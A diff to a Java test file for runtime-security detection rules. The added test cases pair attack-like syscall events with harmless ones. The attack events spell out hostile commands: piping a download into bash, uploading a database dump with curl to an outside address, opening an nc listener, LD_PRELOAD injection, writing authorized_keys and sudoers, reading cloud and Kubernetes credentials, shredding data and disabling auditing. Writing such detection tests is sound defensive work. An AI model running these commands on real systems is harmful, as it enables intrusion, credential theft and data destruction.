@@ -13,6 +13,7 @@ import io.gyr.rules.Priority;
 import io.gyr.rules.Rule;
 import io.gyr.rules.RuleLoader;
 import io.gyr.rules.TestEvent;
+import io.gyr.rules.event.SyscallFacts;
 import java.util.ArrayList;
 import java.util.List;
 import java.util.stream.Stream;
@@ -180,8 +181,227 @@ class StarterRulesTest {
             connect("198.51.100.7", 443).by("/usr/bin/python3", "app.py").inContainer("x")));
   }
 
+  /** The same for the rules further down the file. */
+  static Stream<Arguments> moreCases() {
+    return Stream.of(
+        arguments(
+            "Application runtime started a shell",
+            execve("/bin/sh", "-c", "id").childOf("java"),
+            execve("/bin/sh", "-c", "npm test").childOf("node")),
+        arguments(
+            "Interpreter started by web server",
+            execve("/usr/bin/perl", "-e", "exec 'sh'").childOf("httpd"),
+            execve("/usr/bin/perl", "app.pl").childOf("httpd")),
+        arguments(
+            "Service looks around",
+            execve("/usr/bin/whoami").childOf("sh").childOf("nginx"),
+            execve("/usr/bin/whoami").childOf("bash").childOf("sshd")),
+        arguments(
+            "Program run from memory",
+            execve("/memfd:x").argument("flags", "EXE_FROM_MEMFD"),
+            execve("/memfd:runc_cloned").by("/usr/bin/runc").argument("flags", "EXE_FROM_MEMFD")),
+        arguments(
+            "Library forced on program",
+            execve("/usr/bin/ssh")
+                .list(SyscallFacts.PROCESS_ENVIRONMENT, "LD_PRELOAD=/tmp/x.so")
+                .inContainer("x"),
+            execve("/usr/bin/ssh")
+                .list(SyscallFacts.PROCESS_ENVIRONMENT, "LD_PRELOAD=/usr/lib/jemalloc.so")
+                .inContainer("x")),
+        arguments(
+            "Compiler in container",
+            execve("/usr/bin/gcc", "x.c").childOf("bash").inContainer("shop:1"),
+            execve("/usr/bin/gcc", "x.c").childOf("bash")),
+        arguments(
+            "Download tool in container",
+            execve("/usr/bin/wget", "http://203.0.113.9/x").childOf("sh").inContainer("x"),
+            execve("/usr/bin/curl", "http://localhost/healthz").childOf("sh").inContainer("x")),
+        arguments(
+            "Temporary file made executable",
+            call("fchmodat")
+                .by("/usr/bin/chmod")
+                .in("/tmp")
+                .argument("filename", "x")
+                .argument("mode", "0755"),
+            call("fchmodat")
+                .by("/usr/bin/chmod")
+                .in("/tmp")
+                .argument("filename", "x")
+                .argument("mode", "0644")),
+        arguments(
+            "Password guessing tool",
+            execve("/usr/bin/hydra", "-l", "root"),
+            execve("/usr/bin/hydrate")),
+        arguments(
+            "Service unit written",
+            open("/etc/systemd/system/x.service", WRITE).by("/bin/sh"),
+            open("/etc/systemd/system/x.service", WRITE).by("/usr/bin/dpkg")),
+        arguments(
+            "Shell start file changed",
+            open("/root/.bashrc", WRITE).by("/bin/sh"),
+            open("/root/.bashrc", WRITE).by("/usr/bin/vim")),
+        arguments(
+            "Authorized keys changed",
+            open("/root/.ssh/authorized_keys", WRITE).by("/bin/sh"),
+            open("/root/.ssh/authorized_keys", READ).by("/usr/sbin/sshd")),
+        arguments(
+            "Dynamic linker configured",
+            open("/etc/ld.so.preload", WRITE).by("/bin/sh"),
+            open("/etc/ld.so.preload", READ).by("/bin/sh")),
+        arguments(
+            "Login procedure changed",
+            call("rename")
+                .by("/bin/mv")
+                .argument("oldpath", "/tmp/su")
+                .argument("newpath", "/etc/pam.d/su"),
+            open("/etc/pam.d/su", WRITE).by("/usr/bin/dpkg")),
+        arguments(
+            "Rules of privilege changed",
+            open("/etc/sudoers.d/eve", WRITE).by("/usr/bin/tee"),
+            open("/etc/sudoers", WRITE).by("/usr/sbin/visudo")),
+        arguments(
+            "Job scheduled from container",
+            execve("/usr/bin/crontab", "-e").inContainer("shop:1"),
+            execve("/usr/bin/crontab", "-e")),
+        arguments(
+            "Capability given to file",
+            execve("/usr/sbin/setcap", "cap_setuid+ep", "/tmp/x"),
+            execve("/usr/sbin/setcap", "-r", "/tmp/x")),
+        arguments(
+            "Release agent written in container",
+            open("/tmp/cgrp/release_agent", WRITE).by("/bin/sh").inContainer("x"),
+            open("/tmp/cgrp/release_agent", READ).by("/bin/sh").inContainer("x")),
+        arguments(
+            "Kernel setting changed in container",
+            open("/proc/sys/kernel/core_pattern", WRITE).by("/bin/sh").inContainer("x"),
+            open("/proc/sys/kernel/core_pattern", WRITE).by("/bin/sh")),
+        arguments(
+            "Host reached through proc",
+            open("/proc/1/root/etc/passwd", READ).by("/bin/cat").inContainer("x"),
+            open("/proc/1/status", READ).by("/bin/cat").inContainer("x")),
+        arguments(
+            "Shell brought into host namespace",
+            execve("/usr/bin/nsenter", "-t", "1", "-m", "sh"),
+            execve("/usr/bin/nsenter", "-t", "4711", "-m", "sh")),
+        arguments(
+            "Root directory changed in container",
+            call("chroot").by("/usr/sbin/chroot").argument("path", "/mnt").inContainer("x"),
+            call("chroot").by("/usr/sbin/sshd").argument("path", "/run/sshd").inContainer("x")),
+        arguments(
+            "Cluster client in container",
+            execve("/usr/bin/kubectl", "get", "secrets").inContainer("shop:1"),
+            execve("/usr/bin/kubectl", "get", "pods")),
+        arguments(
+            "BPF program loaded",
+            call("bpf").by("/tmp/x").argument("cmd", "BPF_PROG_LOAD").result(5),
+            call("bpf").by("/tmp/x").argument("cmd", "BPF_MAP_CREATE").result(5)),
+        arguments(
+            "Page faults handled by program",
+            call("userfaultfd").by("/tmp/exploit").result(4),
+            call("userfaultfd").by("/usr/bin/criu").result(4)),
+        arguments(
+            "Service account token read",
+            open("/var/run/secrets/kubernetes.io/serviceaccount/token", READ)
+                .by("/bin/cat")
+                .inContainer("x"),
+            open("/var/run/secrets/kubernetes.io/serviceaccount/token", READ)
+                .by("/app/operator")
+                .inContainer("x")),
+        arguments(
+            "Cloud credentials read",
+            open("/root/.aws/credentials", READ).by("/bin/cat"),
+            open("/root/.aws/credentials", READ).by("/usr/bin/aws", "s3", "ls")),
+        arguments(
+            "Memory of process read",
+            open("/proc/812/mem", "O_RDWR").by("/tmp/x"),
+            open("/proc/812/mem", "O_RDWR").by("/usr/bin/gdb")),
+        arguments(
+            "Environment of process read",
+            open("/proc/812/environ", READ).by("/usr/bin/strings"),
+            open("/proc/self/environ", READ).by("/usr/bin/strings")),
+        arguments(
+            "Guard stopped",
+            execve("/usr/bin/systemctl", "stop", "auditd"),
+            execve("/usr/bin/systemctl", "restart", "auditd")),
+        arguments(
+            "Firewall opened",
+            execve("/usr/sbin/iptables", "-F").childOf("bash"),
+            execve("/usr/sbin/iptables", "-L").childOf("bash")),
+        arguments(
+            "Mandatory access control switched off",
+            execve("/usr/sbin/setenforce", "0"),
+            execve("/usr/sbin/setenforce", "1")),
+        arguments(
+            "Recording of commands switched off",
+            execve("/bin/bash", "-c", "unset HISTFILE; id"),
+            execve("/bin/bash", "-c", "echo $HISTFILE")),
+        arguments(
+            "Time of file forged",
+            execve("/usr/bin/touch", "-r", "/bin/ls", "/tmp/x"),
+            execve("/usr/bin/touch", "/tmp/x")),
+        arguments(
+            "File made immutable",
+            execve("/usr/bin/chattr", "+i", "/etc/crontab"),
+            execve("/usr/bin/chattr", "-i", "/etc/crontab")),
+        arguments(
+            "Process hidden by mount",
+            call("mount")
+                .by("/bin/mount")
+                .argument("dev", "/tmp/empty")
+                .argument("dir", "/proc/812"),
+            call("mount").by("/bin/mount").argument("dev", "/dev/sdb1").argument("dir", "/mnt")),
+        arguments(
+            "Packet socket in container",
+            call("socket")
+                .by("/tmp/sniff")
+                .argument("domain", "AF_PACKET")
+                .result(3)
+                .inContainer("x"),
+            call("socket")
+                .by("/tmp/sniff")
+                .argument("domain", "AF_INET")
+                .result(3)
+                .inContainer("x")),
+        arguments(
+            "Shell waits for connections",
+            call("listen").by("/usr/bin/nc", "-l", "4444").fd(3, "ipv4", "0.0.0.0:4444"),
+            call("listen").by("/usr/sbin/nginx").fd(3, "ipv4", "0.0.0.0:80")),
+        arguments(
+            "Connection to chat server",
+            connect("203.0.113.9", 6667).by("/opt/a").inContainer("shop:1"),
+            connect("10.0.0.9", 6667).by("/opt/a").inContainer("shop:1")),
+        arguments(
+            "Anonymous proxy used",
+            connect("127.0.0.1", 9050).by("/usr/bin/curl"),
+            connect("127.0.0.1", 9050).by("/opt/service")),
+        arguments(
+            "Remote login from container",
+            execve("/usr/bin/ssh", "db1").childOf("bash").inContainer("shop:1"),
+            execve("/usr/bin/ssh", "git@host").childOf("git").inContainer("ci:1")),
+        arguments(
+            "Files carried out of container",
+            execve("/usr/bin/curl", "-T", "db.sql", "http://203.0.113.9/").inContainer("x"),
+            execve("/usr/bin/curl", "http://203.0.113.9/").inContainer("x")),
+        arguments(
+            "Data destroyed in bulk",
+            execve("/usr/bin/shred", "-u", "/srv/db"),
+            execve("/usr/bin/dd", "if=/dev/zero", "of=/tmp/x")),
+        arguments(
+            "Disk written past its file system",
+            open("/dev/sda", "O_WRONLY").by("/tmp/x"),
+            open("/dev/sda", "O_RDONLY").by("/tmp/x")),
+        arguments(
+            "Encoded command run by shell",
+            execve("/bin/sh", "-c", "echo aWQK | base64 -d | sh"),
+            execve("/bin/sh", "-c", "echo id | base64")),
+        arguments(
+            "Download piped into shell",
+            execve("/bin/bash", "-c", "curl -s http://203.0.113.9/x | bash"),
+            execve("/bin/bash", "-c", "curl -s http://203.0.113.9/x -o x")));
+  }
+
   @ParameterizedTest(name = "{0}")
-  @MethodSource("cases")
+  @MethodSource({"cases", "moreCases"})
   void firesOnTheAttackAndNotOnItsHarmlessNeighbour(
       String rule, TestEvent attack, TestEvent quiet) {
     assertThat(fired(attack)).contains(rule);
@@ -195,13 +415,18 @@ class StarterRulesTest {
 
   @Test
   void everyRuleHasATestAndIsTaggedAndTimeless() {
-    List<String> tested = cases().map(test -> (String) test.get()[0]).toList();
+    List<String> tested =
+        Stream.concat(cases(), moreCases()).map(test -> (String) test.get()[0]).toList();
     assertThat(LOADED.rules().rules())
         .extracting(Rule::name)
         .containsExactlyInAnyOrderElementsOf(tested);
     assertThat(LOADED.rules().rules())
         .allSatisfy(rule -> assertThat(rule.tags()).anyMatch(tag -> tag.matches("T[A0-9.]+")))
-        .allSatisfy(rule -> assertThat(rule.tags()).anyMatch(tag -> tag.startsWith("mitre_")));
+        .allSatisfy(rule -> assertThat(rule.tags()).anyMatch(tag -> tag.startsWith("mitre_")))
+        .allSatisfy(rule -> assertThat(rule.tags()).anyMatch(tag -> tag.startsWith("PCI_DSS_")))
+        .allSatisfy(rule -> assertThat(rule.tags()).anyMatch(tag -> tag.startsWith("NIST_800-53_")))
+        .allSatisfy(rule -> assertThat(rule.tags()).anyMatch(tag -> tag.startsWith("SOC2_")))
+        .hasSizeGreaterThanOrEqualTo(60);
   }
 
   @Test
